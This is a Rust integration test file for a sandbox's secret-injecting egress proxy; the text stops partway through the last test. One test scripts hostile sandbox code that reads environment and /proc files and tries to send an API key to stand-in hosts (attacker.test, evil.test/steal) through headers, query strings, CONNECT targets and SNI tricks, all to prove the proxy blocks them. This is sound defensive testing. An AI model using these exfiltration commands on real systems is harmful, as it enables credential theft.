//! Secrets that never enter the sandbox (issue 30), end to end with real kernels, real
//! clients and real loopback servers: the sandbox gets a placeholder, the egress proxy puts the
//! value into request headers of verified TLS requests to the secret's host, and nowhere else.
//!
//! Every server here records everything it receives (decrypted, for the TLS ones); the tests
//! assert from outside that the value reached the bound upstream only, and never the
//! sandbox's output, cordon's stderr or the Outcome. Loopback only: names are mapped to
//! 127.0.0.x with --add-host, so no DNS query and no packet leaves the machine.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use serde_json::Value;

mod serve;

const VALUE: &str = "sk-test-7c1d0e-the-real-value";

/// A CA for the tests' upstreams (as a company's internal CA would be for a real one).
struct TestCa {
    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
    pem: String,
}

impl TestCa {
    fn new(name: &str) -> TestCa {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, name);
        params.key_usages = vec![
            rcgen::KeyUsagePurpose::KeyCertSign,
            rcgen::KeyUsagePurpose::DigitalSignature,
        ];
        let cert = params.self_signed(&key).unwrap();
        TestCa {
            pem: cert.pem(),
            issuer: rcgen::Issuer::new(params, key),
        }
    }

    fn leaf(&self, host: &str) -> (CertificateDer<'static>, PrivateKeyDer<'static>) {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(vec![host.to_string()]).unwrap();
        params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
        let cert = params.signed_by(&key, &self.issuer).unwrap();
        (
            cert.der().clone(),
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        )
    }

    /// The certificate in a file cordon (and the sandbox's tests) can read.
    fn file(&self, dir: &std::path::Path, name: &str) -> PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, &self.pem).unwrap();
        p
    }
}

/// A loopback server that records every byte it receives and answers each request head with
/// `200`, saying whether the request carried the value (keep-alive).
struct Server {
    port: u16,
    seen: Arc<Mutex<Vec<u8>>>,
}

impl Server {
    fn tls(ip: &str, cert: (CertificateDer<'static>, PrivateKeyDer<'static>)) -> Server {
        let config = Arc::new(
            rustls::ServerConfig::builder_with_provider(Arc::new(
                rustls::crypto::ring::default_provider(),
            ))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(vec![cert.0], cert.1)
            .unwrap(),
        );
        Server::start(ip, move |sock, seen| {
            let conn = rustls::ServerConnection::new(config.clone()).unwrap();
            let mut tls = rustls::StreamOwned::new(conn, sock);
            serve_http(&mut tls, &seen);
        })
    }

    fn plain(ip: &str) -> Server {
        Server::start(ip, |mut sock, seen| serve_http(&mut sock, &seen))
    }

    fn start(
        ip: &str,
        handle: impl Fn(TcpStream, Arc<Mutex<Vec<u8>>>) + Send + Sync + 'static,
    ) -> Server {
        let l = TcpListener::bind((ip, 0)).expect("bind loopback");
        let port = l.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let s = seen.clone();
        let handle = Arc::new(handle);
        std::thread::spawn(move || {
            for sock in l.incoming() {
                let Ok(sock) = sock else { continue };
                let _ = sock.set_read_timeout(Some(Duration::from_secs(10)));
                let (s, handle) = (s.clone(), handle.clone());
                std::thread::spawn(move || handle(sock, s));
            }
        });
        Server { port, seen }
    }

    fn seen(&self) -> String {
        String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned()
    }
}

fn serve_http<S: Read + Write>(s: &mut S, seen: &Mutex<Vec<u8>>) {
    let mut buf = [0u8; 8192];
    let mut pending: Vec<u8> = Vec::new();
    loop {
        while !pending.windows(4).any(|w| w == b"\r\n\r\n") {
            match s.read(&mut buf) {
                Ok(0) | Err(_) => return,
                Ok(n) => {
                    seen.lock().unwrap().extend_from_slice(&buf[..n]);
                    pending.extend_from_slice(&buf[..n]);
                }
            }
        }
        let end = pending.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
        let head = String::from_utf8_lossy(&pending[..end]).into_owned();
        pending.drain(..end);
        let length: usize = head
            .lines()
            .find_map(|l| {
                let (n, v) = l.split_once(':')?;
                n.eq_ignore_ascii_case("content-length")
                    .then(|| v.trim().parse().ok())?
            })
            .unwrap_or(0);
        if head.to_ascii_lowercase().contains("expect: 100-continue") {
            let _ = s.write_all(b"HTTP/1.1 100 Continue\r\n\r\n");
        }
        while pending.len() < length {
            match s.read(&mut buf) {
                Ok(0) | Err(_) => return,
                Ok(n) => {
                    seen.lock().unwrap().extend_from_slice(&buf[..n]);
                    pending.extend_from_slice(&buf[..n]);
                }
            }
        }
        pending.drain(..length);
        // An upstream that reflects the credential (an echo service): the proxy must not let
        // it back into the sandbox.
        let echo = head
            .lines()
            .find_map(|l| l.strip_prefix("Authorization: "))
            .unwrap_or("-")
            .to_string();
        let basic = base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            format!("user:{VALUE}"),
        );
        let body = if head.contains(VALUE) || head.contains(&basic) {
            "upstream saw the value\n"
        } else {
            "upstream saw no value\n"
        };
        let _ = write!(
            s,
            "HTTP/1.1 200 OK\r\nX-Echo-Auth: {echo}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let _ = s.flush();
    }
}

struct Run {
    outcome: Value,
    stderr: String,
    stdout_raw: String,
}

fn cordon(args: &[String], script: &str) -> Run {
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(["run", "--json", "--timeout", "60s"])
        .args(args)
        .args(["--", "sh", "-c", script])
        .env("TEST_SECRET_VALUE", VALUE)
        .output()
        .expect("run cordon");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let stdout_raw = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{stderr}");
    Run {
        outcome: serde_json::from_str(&stdout_raw).expect("outcome"),
        stderr,
        stdout_raw,
    }
}

/// A per-test directory, removed when the test ends (also when it fails).
struct TempDir(PathBuf);

impl std::ops::Deref for TempDir {
    type Target = std::path::Path;
    fn deref(&self) -> &std::path::Path {
        &self.0
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn temp_dir(tag: &str) -> TempDir {
    let d = std::env::temp_dir().join(format!("cordon-secrets-test-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    TempDir(d)
}

/// Nothing cordon printed or reported holds the value.
fn assert_value_nowhere_in(run: &Run) {
    assert!(
        !run.stdout_raw.contains(VALUE),
        "value in the Outcome: {}",
        run.outcome
    );
    assert!(
        !run.stderr.contains(VALUE),
        "value on stderr: {}",
        run.stderr
    );
}

fn python_has(module: &str) -> bool {
    Command::new("/usr/bin/python3")
        .args(["-c", &format!("import {module}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn unmodified_clients_get_the_value_injected_for_the_bound_host_only() {
    let dir = temp_dir("clients");
    let ca = TestCa::new("test upstream CA");
    let up = Server::tls("127.0.0.9", ca.leaf("api.secret.test"));
    let p = up.port;
    let args: Vec<String> = [
        "--allow-net".into(),
        format!("api.secret.test:{p}"),
        "--allow-net".into(),
        format!("127.0.0.9:{p}"),
        "--add-host".into(),
        "api.secret.test:127.0.0.9".into(),
        "--secret".into(),
        "API_KEY=env:TEST_SECRET_VALUE@api.secret.test".into(),
        "--secret-ca".into(),
        ca.file(&dir, "ca.pem").display().to_string(),
    ]
    .into();
    let url = format!("https://api.secret.test:{p}");
    let mut script = format!(
        "echo \"placeholder:$API_KEY\"; \
         curl -sS -H \"Authorization: Bearer $API_KEY\" {url}/curl; \
         curl -sS -H \"Authorization: Bearer $API_KEY\" {url}/keep1 {url}/keep2; \
         curl -sS -u \"user:$API_KEY\" {url}/basic; \
         head -c 3000 /dev/zero | tr '\\0' a > /tmp/body; curl -sS -D /tmp/h -H 'Expect: 100-continue' -H \"Authorization: Bearer $API_KEY\" --data-binary @/tmp/body {url}/post; grep -i x-echo-auth /tmp/h; \
         python3 -c 'import os, urllib.request as u; print(u.urlopen(u.Request(\"{url}/urllib\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"API_KEY\"]}})).read().decode(), end=\"\")'; "
    );
    let mut expected = 6;
    if python_has("requests") {
        script.push_str(&format!(
            "python3 -c 'import os, requests; s = requests.Session(); h = {{\"Authorization\": \"Bearer \" + os.environ[\"API_KEY\"]}}; [print(s.get(\"{url}/requests\", headers=h).text, end=\"\") for _ in range(2)]'; "
        ));
        expected += 2;
    } else {
        eprintln!("note: /usr/bin/python3 has no requests; that client is not tried");
    }
    if python_has("httpx") {
        script.push_str(&format!(
            "python3 -c 'import os, httpx; print(httpx.get(\"{url}/httpx\", headers={{\"Authorization\": \"Bearer \" + os.environ[\"API_KEY\"]}}).text, end=\"\")'; "
        ));
        expected += 1;
    } else {
        eprintln!("note: /usr/bin/python3 has no httpx; that client is not tried");
    }
    let run = cordon(&args, &script);
    let o = &run.outcome;
    assert_eq!(o["exit_code"], 0, "{o}");
    let stdout = o["stdout"].as_str().unwrap();
    let placeholder = stdout
        .lines()
        .next()
        .and_then(|l| l.strip_prefix("placeholder:"))
        .unwrap_or_default();
    assert!(placeholder.starts_with("cordon-secret:v1:"), "{stdout}");
    assert_eq!(
        stdout.matches("upstream saw the value").count(),
        expected,
        "every client's request carried the value: {stdout}\n{}",
        run.stderr
    );
    assert!(!stdout.contains("upstream saw no value"), "{stdout}");
    // The upstream echoed the value in a response header; the sandbox saw the placeholder.
    assert!(
        stdout.contains(&format!("X-Echo-Auth: Bearer {placeholder}")),
        "{stdout}"
    );
    // The upstream got the value, never the placeholder, over one connection per client.
    let seen = up.seen();
    assert!(
        seen.contains(&format!("Authorization: Bearer {VALUE}")),
        "{seen}"
    );
    assert!(!seen.contains(placeholder), "{seen}");
    assert_value_nowhere_in(&run);
    let ev = o["network"].as_array().unwrap();
    assert!(
        ev.iter().any(|e| e["reason"]
            .as_str()
            .unwrap()
            .contains("secret value inserted 2 time(s)")),
        "keep-alive: two requests on one connection: {ev:?}"
    );
}

#[test]
fn hostile_code_never_gets_the_value_out_of_the_sandbox() {
    let dir = temp_dir("hostile");
    let ca = TestCa::new("test upstream CA");
    let rogue = TestCa::new("rogue CA");
    // The bound upstream, and an impostor for a second bound name whose certificate the
    // proxy cannot verify (signed by a CA nobody trusts).
    let up = Server::tls("127.0.0.9", ca.leaf("api.secret.test"));
    let impostor = Server::tls("127.0.0.9", rogue.leaf("api2.secret.test"));
    // The attacker's own servers: HTTPS (whose certificate the sandbox's client accepts) and
    // plain HTTP.
    let evil_tls = Server::tls("127.0.0.10", ca.leaf("attacker.test"));
    let evil_plain = Server::plain("127.0.0.10");
    let (p, p2, e, ep) = (up.port, impostor.port, evil_tls.port, evil_plain.port);
    let args: Vec<String> = [
        "--allow-net".into(),
        format!("api.secret.test:{p}"),
        "--allow-net".into(),
        format!("api2.secret.test:{p2}"),
        "--allow-net".into(),
        format!("attacker.test:{e}"),
        "--allow-net".into(),
        format!("attacker.test:{ep}"),
        "--allow-net".into(),
        "127.0.0.9:*".into(),
        "--allow-net".into(),
        "127.0.0.10:*".into(),
        "--add-host".into(),
        "api.secret.test:127.0.0.9".into(),
        "--add-host".into(),
        "api2.secret.test:127.0.0.9".into(),
        "--add-host".into(),
        "attacker.test:127.0.0.10".into(),
        "--secret".into(),
        "API_KEY=env:TEST_SECRET_VALUE@api.secret.test,api2.secret.test".into(),
        "--secret-ca".into(),
        ca.file(&dir, "ca.pem").display().to_string(),
    ]
    .into();
    let script = format!(
        "K=\"$API_KEY\"; \
         echo '== environment and /proc'; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; \
         echo '== files'; ls -la /run/cordon-secrets; cat /run/cordon-secrets/* 2>&1 | grep -c 'PRIVATE KEY'; \
         grep -rl \"$TEST_SECRET_VALUE\" /run /tmp /etc/ssl 2>/dev/null; \
         echo '== placeholder to the attacker over https'; curl -sSk -H \"Authorization: Bearer $K\" https://attacker.test:{e}/; \
         echo '== placeholder to the attacker over http'; curl -sS \"http://attacker.test:{ep}/?k=$K\"; curl -sS -H \"X-K: $K\" http://attacker.test:{ep}/; \
         echo '== in the CONNECT target'; python3 -c 'import os, socket; k = os.environ[\"API_KEY\"]; port = int(os.environ[\"HTTPS_PROXY\"].rsplit(\":\", 1)[1]); s = socket.create_connection((\"127.0.0.1\", port)); s.sendall((\"CONNECT \" + k + \".attacker.test:{e} HTTP/1.1\\r\\n\\r\\n\").encode()); print(s.recv(300).decode())'; \
         echo '== Host header other than SNI'; curl -sS -H \"Host: attacker.test\" -H \"Authorization: Bearer $K\" https://api.secret.test:{p}/; \
         echo '== CONNECT to the bound host, SNI of another'; curl -sSk --connect-to attacker.test:{p}:api.secret.test:{p} -H \"Authorization: Bearer $K\" https://attacker.test:{p}/; \
         echo '== IP literal of the bound host'; curl -sSk -H \"Authorization: Bearer $K\" https://127.0.0.9:{p}/; \
         echo '== plain HTTP to the bound host'; curl -sS -H \"Authorization: Bearer $K\" http://api.secret.test:{p}/; \
         echo '== bound name, upstream that cannot prove it'; curl -sS -H \"Authorization: Bearer $K\" https://api2.secret.test:{p2}/; \
         echo '== end'"
    );
    let run = cordon(&args, &script);
    let o = &run.outcome;
    let stdout = o["stdout"].as_str().unwrap();
    assert!(stdout.contains("== end"), "{stdout}\n{}", run.stderr);
    // Nothing in the sandbox holds the value: not its environment, /proc, or files; the CA's
    // key is not there either.
    assert!(!stdout.contains(VALUE), "{stdout}");
    assert!(stdout.contains("API_KEY=cordon-secret:v1:"), "{stdout}");
    assert!(
        stdout.contains("\n0\n"),
        "no PRIVATE KEY in /run/cordon-secrets: {stdout}"
    );
    // The attacker's servers, the bound upstream (reached by IP literal, no substitution) and
    // the impostor never received the value.
    for (who, s) in [
        ("attacker https", &evil_tls),
        ("attacker http", &evil_plain),
        ("bound upstream", &up),
        ("impostor", &impostor),
    ] {
        assert!(
            !s.seen().contains(VALUE),
            "{who} received the value: {}",
            s.seen()
        );
    }
    // The https request to the attacker went through the ordinary relay (not intercepted):
    // the attacker got the placeholder, which is worth nothing.
    assert!(
        evil_tls.seen().contains("cordon-secret:v1:"),
        "{}",
        evil_tls.seen()
    );
    // The plain HTTP attempts never reached the attacker.
    assert_eq!(evil_plain.seen(), "", "plain attempts were relayed");
    // The IP literal reached the bound upstream without substitution; the impostor got no
    // request at all (the proxy's TLS to it failed verification first).
    assert!(up.seen().contains("cordon-secret:v1:"), "{}", up.seen());
    assert!(!impostor.seen().contains("GET"), "{}", impostor.seen());
    assert_value_nowhere_in(&run);
    let reasons: Vec<String> = o["network"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| format!("{} {}: {}", e["verdict"], e["host"], e["reason"]))
        .collect();
    let has = |needle: &str| reasons.iter().any(|r| r.contains(needle));
    assert!(
        has("attempted exfiltration: the placeholder of secret API_KEY in a request to attacker.test"),
        "{reasons:#?}"
    );
    assert!(
        reasons
            .iter()
            .filter(|r| r.contains("attempted exfiltration: the placeholder of secret API_KEY"))
            .count()
            >= 3,
        "query, header and CONNECT target: {reasons:#?}"
    );
    assert!(
        has("host header does not name api.secret.test"),
        "{reasons:#?}"
    );
    assert!(
        has("tls sni attacker.test does not match connect host api.secret.test"),
        "{reasons:#?}"
    );
    assert!(has("plain HTTP to api.secret.test"), "{reasons:#?}");
    assert!(
        has("upstream api2.secret.test failed TLS verification"),
        "{reasons:#?}"
    );
}

#[test]
fn a_secret_host_outside_the_allowlist_or_an_inline_value_is_refused_before_running() {
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args([
            "run",
            "--secret",
            "API_KEY=env:TEST_SECRET_VALUE@api.secret.test",
            "--",
            "true",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains("--secret") && stderr.contains("network allowlist"),
        "{stderr}"
    );
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args([
            "run",
            "--allow-net",
            "api.secret.test",
            "--secret",
            &format!("API_KEY={VALUE}@api.secret.test"),
            "--",
            "true",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(stderr.contains("env:VAR or file:PATH"), "{stderr}");
    assert!(!stderr.contains(VALUE), "{stderr}");
    // A source that is not set: named, and nothing runs.
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args([
            "run",
            "--allow-net",
            "api.secret.test",
            "--secret",
            "API_KEY=env:CORDON_TEST_UNSET_VAR@api.secret.test",
            "--",
            "true",
        ])
        .env_remove("CORDON_TEST_UNSET_VAR")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains("env:CORDON_TEST_UNSET_VAR is not set"),
        "{stderr}"
    );
    // Where secrets are not wired yet they are refused, never silently dropped (the program
    // would run without them).
    for cmd in [&["run", "-t"][..], &["mcp"][..]] {
        let tail: &[&str] = if cmd[0] == "run" {
            &["--", "true"]
        } else {
            &[]
        };
        let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
            .args(cmd)
            .args([
                "--allow-net",
                "api.secret.test",
                "--secret",
                "API_KEY=env:TEST_SECRET_VALUE@api.secret.test",
            ])
            .args(tail)
            .env("TEST_SECRET_VALUE", VALUE)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(125), "{cmd:?}: {stderr}");
        assert!(
            stderr.contains("--secret: not available"),
            "{cmd:?}: {stderr}"
        );
    }
}

/// A loopback HTTPS upstream speaking HTTP/2 (and 1.1): Node's http2 server, which answers
/// with the protocol it spoke and whether the request carried the value, and echoes the
/// Authorization header back in a response header.
struct NodeH2 {
    child: std::process::Child,
    port: u16,
}

impl Drop for NodeH2 {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn node_h2(dir: &std::path::Path, ca: &TestCa, host: &str) -> Option<NodeH2> {
    use std::io::BufRead;
    let (cert, key) = ca.leaf(host);
    let pem = |label: &str, der: &[u8]| {
        let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, der);
        let lines: Vec<&str> = b64
            .as_bytes()
            .chunks(64)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        format!(
            "-----BEGIN {label}-----\n{}\n-----END {label}-----\n",
            lines.join("\n")
        )
    };
    std::fs::write(dir.join("leaf.pem"), pem("CERTIFICATE", cert.as_ref())).unwrap();
    std::fs::write(dir.join("leaf.key"), pem("PRIVATE KEY", key.secret_der())).unwrap();
    let script = format!(
        "const http2 = require('http2'), fs = require('fs');
         const s = http2.createSecureServer({{key: fs.readFileSync('{d}/leaf.key'), cert: fs.readFileSync('{d}/leaf.pem'), allowHTTP1: true}}, (req, res) => {{
           let n = 0; req.on('data', c => n += c.length); req.on('end', () => {{
             const auth = String(req.headers['authorization']);
             res.setHeader('x-echo-auth', auth);
             res.end('proto=' + req.httpVersion + ' value=' + (auth.includes('{VALUE}') ? 'yes' : 'no') + ' body=' + n + '\\n');
           }});
         }});
         s.listen(0, '127.0.0.9', () => console.log(s.address().port));",
        d = dir.display()
    );
    let mut child = Command::new("node")
        .args(["-e", &script])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .ok()?;
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take()?)
        .read_line(&mut line)
        .ok()?;
    let port = line.trim().parse().ok()?;
    Some(NodeH2 { child, port })
}

#[test]
fn http2_requests_get_the_value_and_a_foreign_authority_is_refused() {
    let dir = temp_dir("h2");
    let ca = TestCa::new("test upstream CA");
    let Some(up) = node_h2(&dir, &ca, "api.secret.test") else {
        eprintln!("note: no node on this host; the HTTP/2 upstream cannot run");
        return;
    };
    let p = up.port;
    let args: Vec<String> = [
        "--allow-net".into(),
        format!("api.secret.test:{p}"),
        "--allow-net".into(),
        format!("127.0.0.9:{p}"),
        "--add-host".into(),
        "api.secret.test:127.0.0.9".into(),
        "--secret".into(),
        "API_KEY=env:TEST_SECRET_VALUE@api.secret.test".into(),
        "--secret-ca".into(),
        ca.file(&dir, "ca.pem").display().to_string(),
    ]
    .into();
    let url = format!("https://api.secret.test:{p}");
    let script = format!(
        "curl -sS --http2 -D /tmp/h -H \"Authorization: Bearer $API_KEY\" {url}/a {url}/b; \
         grep -i x-echo-auth /tmp/h; \
         curl -sS --http2 -H \"Authorization: Bearer $API_KEY\" -d hello {url}/post; \
         curl -sS --http2 -H 'Host: attacker.test' -H \"Authorization: Bearer $API_KEY\" {url}/host; echo"
    );
    let run = cordon(&args, &script);
    let o = &run.outcome;
    let stdout = o["stdout"].as_str().unwrap();
    assert_eq!(
        stdout.matches("proto=2.0 value=yes").count(),
        3,
        "{stdout}\n{}",
        run.stderr
    );
    assert!(stdout.contains("proto=2.0 value=yes body=5"), "{stdout}");
    assert!(
        stdout.contains("x-echo-auth: Bearer cordon-secret:v1:"),
        "{stdout}"
    );
    assert!(
        stdout.contains("h2 :authority or host does not name api.secret.test"),
        "{stdout}"
    );
    assert_value_nowhere_in(&run);
    let reasons: Vec<String> = o["network"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["reason"].as_str().unwrap().to_string())
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r.contains(", h2; secret value inserted 2 time(s)")),
        "two h2 requests on one connection: {reasons:#?}"
    );
    drop(up);
}

#[test]
fn a_profile_secret_from_a_file_is_injected_as_a_header_the_program_never_sent() {
    let dir = temp_dir("profile");
    let ca = TestCa::new("test upstream CA");
    let up = Server::tls("127.0.0.9", ca.leaf("api.secret.test"));
    let p = up.port;
    // Written the way `echo KEY > file` does: the trailing newline is no part of the value.
    let key_file = dir.join("key");
    std::fs::write(&key_file, format!("{VALUE}\n")).unwrap();
    let profile = dir.join("p.toml");
    std::fs::write(
        &profile,
        format!(
            r#"
[network]
allow = ["api.secret.test:{p}", "127.0.0.9:{p}"]
hosts = {{ "api.secret.test" = "127.0.0.9" }}

[secrets.API_KEY]
value = "file:{key}"
hosts = ["api.secret.test"]
header = "X-Api-Key"
format = "Key {{value}}"
ca = "{ca}"
"#,
            key = key_file.display(),
            ca = ca.file(&dir, "ca.pem").display()
        ),
    )
    .unwrap();
    let run = cordon(
        &["--profile".into(), profile.display().to_string()],
        &format!(
            "curl -sS https://api.secret.test:{p}/plain; \
             curl -sS -H 'X-Api-Key: mine' https://api.secret.test:{p}/own; \
             cat /run/cordon-secrets/*.pem | grep -c 'BEGIN CERTIFICATE' >/dev/null && echo trust-ok"
        ),
    );
    let stdout = run.outcome["stdout"].as_str().unwrap();
    // Injected when absent; a header the program set itself is left as it is.
    assert_eq!(
        stdout, "upstream saw the value\nupstream saw no value\ntrust-ok\n",
        "{}",
        run.stderr
    );
    let seen = up.seen();
    assert!(
        seen.contains(&format!("X-Api-Key: Key {VALUE}\r\n")),
        "{seen}"
    );
    assert!(seen.contains("X-Api-Key: mine\r\n"), "{seen}");
    assert_value_nowhere_in(&run);
}

/// The request heads `server` received whose `User-Agent` starts with `agent`.
fn heads_from(server: &Server, agent: &str) -> Vec<String> {
    server
        .seen()
        .split("\r\n\r\n")
        .filter(|h| {
            h.lines().any(|l| {
                l.to_ascii_lowercase()
                    .starts_with(&format!("user-agent: {agent}"))
            })
        })
        .map(str::to_string)
        .collect()
}

#[test]
fn pip_and_git_reach_a_private_index_with_the_value_as_their_credentials() {
    let dir = temp_dir("pipgit");
    let ca = TestCa::new("test upstream CA");
    let up = Server::tls("127.0.0.9", ca.leaf("api.secret.test"));
    let p = up.port;
    let args: Vec<String> = [
        "--allow-net".into(),
        format!("api.secret.test:{p}"),
        "--allow-net".into(),
        format!("127.0.0.9:{p}"),
        "--add-host".into(),
        "api.secret.test:127.0.0.9".into(),
        "--secret".into(),
        "API_KEY=env:TEST_SECRET_VALUE@api.secret.test".into(),
        "--secret-ca".into(),
        ca.file(&dir, "ca.pem").display().to_string(),
        "--disk".into(),
        "256M".into(),
    ]
    .into();
    // Unmodified: the credentials in the index URL (pip sends them as Basic), an extra header
    // for git; the test upstream is no real index, so both then fail, after the request.
    let script = format!(
        "python3 -m pip download --no-deps --retries 0 --timeout 10 -d /tmp/dl \
           --index-url \"https://user:$API_KEY@api.secret.test:{p}/simple/\" cordon-test-pkg >/dev/null 2>&1; \
         git -c http.extraHeader=\"Authorization: Bearer $API_KEY\" ls-remote https://api.secret.test:{p}/repo.git >/dev/null 2>&1; \
         echo done"
    );
    let run = cordon(&args, &script);
    assert_eq!(run.outcome["stdout"], "done\n", "{}", run.stderr);
    let basic = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        format!("user:{VALUE}"),
    );
    let pip = heads_from(&up, "pip/");
    assert!(
        pip.iter().any(|h| h.contains(&format!("Basic {basic}"))),
        "pip's request, verified against the CA bundle cordon gave it, carried the value: {}",
        up.seen()
    );
    let git = heads_from(&up, "git/");
    assert!(
        git.iter().any(|h| h.contains(&format!("Bearer {VALUE}"))),
        "git's request carried the value: {}",
        up.seen()
    );
    assert_value_nowhere_in(&run);
}

/// `cordon serve`'s stored secrets through E2B's `Secret` API and a create's
/// `${e2b.secrets.NAME}` placeholders: the value goes to the bound host's requests only (as the
/// rule's header, and in place of the variable's placeholder), never into the sandbox, any
/// answer, or the server's files in the clear; an update reaches the running sandbox.
#[test]
fn e2b_stored_secrets_reach_only_the_bound_host_and_rotate_in_a_running_sandbox() {
    let dir = temp_dir("serve");
    let ca = TestCa::new("test upstream CA");
    let up = Server::tls("127.0.0.9", ca.leaf("api.secret.test"));
    let evil = Server::plain("127.0.0.10");
    let (p, e) = (up.port, evil.port);
    let templates = dir.join("templates.toml");
    std::fs::write(
        &templates,
        format!(
            "[templates.secrets]\nprofile = \"default\"\nallow_net = [\"api.secret.test:{p}\", \"127.0.0.9:{p}\", \"evil.test:{e}\", \"127.0.0.10:{e}\"]\n\
             hosts = {{ \"api.secret.test\" = \"127.0.0.9\", \"evil.test\" = \"127.0.0.10\" }}\n"
        ),
    )
    .unwrap();
    let ca_file = ca.file(&dir, "ca.pem");
    let api = serve::Server::start_in(
        dir.join("data"),
        &[
            "--templates",
            templates.to_str().unwrap(),
            "--secret-ca",
            ca_file.to_str().unwrap(),
        ],
    );
    let e2b = |method: &str, path: &str, body: Option<Value>| -> (u16, String) {
        let r = ureq::request(method, &format!("{}{path}", api.url))
            .set("X-API-KEY", &api.key)
            .timeout(Duration::from_secs(60));
        let res = match body {
            Some(b) => r.send_json(b),
            None => r.call(),
        };
        match res {
            Ok(r) | Err(ureq::Error::Status(_, r)) => (r.status(), r.into_string().unwrap()),
            Err(e) => panic!("{method} {path}: {e}"),
        }
    };
    let (st, created) = e2b(
        "POST",
        "/secrets",
        Some(serde_json::json!({"name": "gh", "value": VALUE, "metadata": {"team": "a"}})),
    );
    assert_eq!(st, 201, "{created}");
    assert!(!created.contains(VALUE), "{created}");
    let created: Value = serde_json::from_str(&created).unwrap();
    assert_eq!(created["currentVersion"], 1);
    let (st, again) = e2b(
        "POST",
        "/secrets",
        Some(serde_json::json!({"name": "gh", "value": "other"})),
    );
    assert_eq!(st, 409, "a second secret of the same name: {again}");
    let (st, listed) = e2b("GET", "/secrets", None);
    assert_eq!(st, 200);
    assert!(
        listed.contains("\"gh\"") && !listed.contains(VALUE),
        "{listed}"
    );
    let (st, _) = e2b("GET", "/secrets/nope", None);
    assert_eq!(st, 404);

    let (st, sb) = e2b(
        "POST",
        "/sandboxes",
        Some(serde_json::json!({
            "templateID": "secrets",
            "envVars": {"GH": "${e2b.secrets.gh}", "PLAIN": "1"},
            "network": {"rules": {"api.secret.test": [
                {"transform": {"headers": {"X-Api-Key": "key ${e2b.secrets.gh}"}}}
            ]}}
        })),
    );
    assert_eq!(st, 201, "{sb}");
    let id = serde_json::from_str::<Value>(&sb).unwrap()["sandboxID"]
        .as_str()
        .unwrap()
        .to_string();
    let exec = |cmd: String| -> Value {
        let (st, out) = api.call(
            "POST",
            &format!("/v1/sandboxes/{id}/exec"),
            Some(serde_json::json!({"cmd": cmd, "timeout": "60s"})),
        );
        assert_eq!(st, 200, "{out}");
        out
    };
    let url = format!("https://api.secret.test:{p}");
    // The variable holds a placeholder; the bound host gets the value in its place and in the
    // rule's header; a host the secret is not bound to gets neither.
    let out = exec(format!(
        "echo \"placeholder:$GH\"; env | grep -c {VALUE}; cat /proc/*/environ 2>/dev/null | grep -c {VALUE}; \
         curl -sS -H \"Authorization: Bearer $GH\" {url}/one; \
         curl -sS -H \"Authorization: Bearer $GH\" http://evil.test:{e}/steal; echo"
    ));
    let stdout = out["stdout"].as_str().unwrap().to_string();
    assert!(!stdout.contains(VALUE), "{stdout}");
    let placeholder = stdout
        .lines()
        .next()
        .and_then(|l| l.strip_prefix("placeholder:"))
        .unwrap_or_default()
        .to_string();
    assert!(placeholder.starts_with("cordon-secret:v1:"), "{stdout}");
    assert!(
        stdout.contains("upstream saw the value"),
        "{stdout}\n{}\n{}",
        out["stderr"],
        api.call("GET", &format!("/v1/sandboxes/{id}/network"), None)
            .1
    );
    let seen = up.seen();
    assert!(
        seen.contains(&format!("Authorization: Bearer {VALUE}")),
        "{seen}"
    );
